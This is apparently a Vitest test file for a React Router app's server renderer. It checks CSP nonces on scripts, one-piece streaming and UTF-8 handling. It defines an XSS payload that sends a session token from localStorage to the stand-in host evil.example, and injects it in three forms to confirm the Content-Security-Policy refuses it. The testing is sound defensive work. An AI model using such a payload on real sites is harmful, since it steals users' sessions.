import type { ReactNode } from 'react'
import type { ServerBuild } from 'react-router'
import { expect, test } from 'vitest'
import { createPageRenderer } from '#app/server/pages/page-render.ts'
import { PageScripts } from '#app/web/shell/app-shell.tsx'
import { HeadScript } from '#app/web/shell/head-script.tsx'
import type { PublicReads } from '#platform/rules/public-reads.ts'
import * as entryServer from '../../entry.server.tsx'

const ATTACK = 'fetch("https://evil.example/"+localStorage.getItem("sanavia.session"))'
const nonceOf = (policy = '') => /'nonce-([^']+)'/.exec(policy)?.[1]

/** The response to a page with this content. */
function render(content: ReactNode) {
  const root = () => (
    <html lang="en">
      <head>
        <HeadScript />
      </head>
      <body>
        {content}
        <PageScripts />
      </body>
    </html>
  )
  const route = { id: 'root', path: '', module: '/assets/root.js', imports: [], css: [] }
  const build = {
    entry: { module: entryServer },
    routes: { root: { id: 'root', path: '', module: { default: root } } },
    assets: {
      entry: { module: '/assets/entry.client.js', imports: [] },
      routes: { root: route },
      url: '/assets/manifest.js',
      version: '1',
    },
    basename: '/',
    publicPath: '/',
    assetsBuildDirectory: 'build',
    future: {},
    ssr: true,
    isSpaMode: false,
    prerender: [],
    routeDiscovery: { mode: 'initial' },
  } as unknown as ServerBuild
  const report = (error: unknown) => {
    throw error
  }
  const options = { origin: 'http://localhost', reads: {} as PublicReads, report, isDevelopment: false }
  return createPageRenderer(build, options)('/')
}

test('every script that the server renders carries the nonce of the policy, which is another one in each rendering', async () => {
  const { plain, headers } = await render(<p>Hello</p>)
  const nonce = nonceOf(headers['content-security-policy'])
  const scripts = [...plain.toString().matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag)
  expect(scripts.length).toBeGreaterThan(2)
  for (const tag of scripts) expect(tag).toContain(` nonce="${nonce}"`)
  expect(nonceOf((await render(<p>Hello</p>)).headers['content-security-policy'])).not.toBe(nonce)
})

test('the page and the data of its loaders are sent in one piece, and nothing is loaded before the style sheet', async () => {
  const html = (await render(<p>Hello</p>)).plain.toString()
  expect(html).toMatch(/^<!DOCTYPE html>.*streamController\.close\(\).*<\/body><\/html>$/s)
  expect(html).toContain('import * as route0 from "/assets/root.js"')
  expect(html).not.toContain('modulepreload')
})

test.each([
  ['a script', `<script>${ATTACK}</script>`],
  ['a script with a guessed nonce', `<script nonce="x">${ATTACK}</script>`],
  ['a module', `<script type="module" async="">${ATTACK}</script>`],
])('%s that gets into the content of a page is not admitted', async (_what, markup) => {
  // biome-ignore lint/security/noDangerouslySetInnerHtml: the hole that the policy has to close
  const { plain, headers } = await render(<div dangerouslySetInnerHTML={{ __html: markup }} />)
  expect(plain.toString()).toContain('evil.example')
  const [tag = ''] = /(?<=<div>)<script[^>]*>/.exec(plain.toString()) ?? []
  expect(tag).not.toContain(` nonce="${nonceOf(headers['content-security-policy'])}"`)
  expect(headers['content-security-policy']).not.toContain('unsafe')
})

test('a page is UTF-8, and a lone surrogate in it is replaced', async () => {
  const { plain } = await render(<p>{'Ağrı – 😀, \ud83d'}</p>)
  expect(plain.toString()).toContain('<p>Ağrı – 😀, \ufffd</p>')
})
